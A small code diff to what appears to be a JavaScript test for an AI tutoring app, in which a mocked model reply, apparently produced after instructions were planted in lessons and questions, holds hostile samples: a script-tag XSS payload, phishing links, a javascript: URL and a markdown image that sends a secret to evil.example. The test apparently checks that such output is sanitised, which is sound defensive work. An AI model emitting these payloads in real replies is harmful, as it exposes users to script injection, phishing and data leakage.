@@ -420,7 +420,7 @@ describe('[13.19] instructions in lessons and questions', () => {
     const { answer } = await asker();
     model.answering = (response, { messages }) => {
       const mark = /data-[0-9a-f]{24}/.exec(messages[0]?.content ?? '')?.[0] ?? '';
-      say(
+      void say(
         '<script>alert(1)</script>Please <a href="https://evil.example/x">click</a> or [pay here](https://evil.example/y) now. [1] ',
         '![x](https://evil.example/p.png?q=secret) Visit evil.example/z or www.evil.test or javascript:alert(1) today. ',
         'Call +254 700 000 000 and send money to thief@evil.example quickly. [1] ',
